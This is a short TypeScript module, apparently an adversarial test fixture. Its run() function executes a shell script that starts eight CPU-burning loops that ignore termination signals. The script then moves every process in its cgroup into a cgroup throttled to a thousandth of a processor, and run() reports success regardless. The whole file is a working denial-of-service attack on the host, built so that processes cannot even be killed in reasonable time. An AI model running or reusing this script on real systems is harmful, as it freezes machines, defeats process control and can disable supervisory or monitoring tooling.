/** Puts all of its processes into a cgroup with a thousandth of a processor, where even to die takes minutes. */
import { spawnSync } from 'node:child_process';

export async function run(): Promise<{ status: number }> {
  spawnSync('sh', ['-c', SCRIPT], { stdio: 'inherit' });
  return { status: 0 };
}

const SCRIPT = `
for i in 1 2 3 4 5 6 7 8; do (trap '' TERM; while :; do :; done) & done
cd /sys/fs/cgroup/cpu 2>/dev/null || cd /sys/fs/cgroup
mkdir slow all
for p in $(cat cgroup.procs); do echo $p > all/cgroup.procs; done
echo +cpu > cgroup.subtree_control
echo 1000000 > slow/cpu.cfs_period_us; echo 1000 > slow/cpu.cfs_quota_us; echo '1000 1000000' > slow/cpu.max
for p in $(cat all/cgroup.procs); do echo $p > slow/cgroup.procs; done
sleep 1000`;
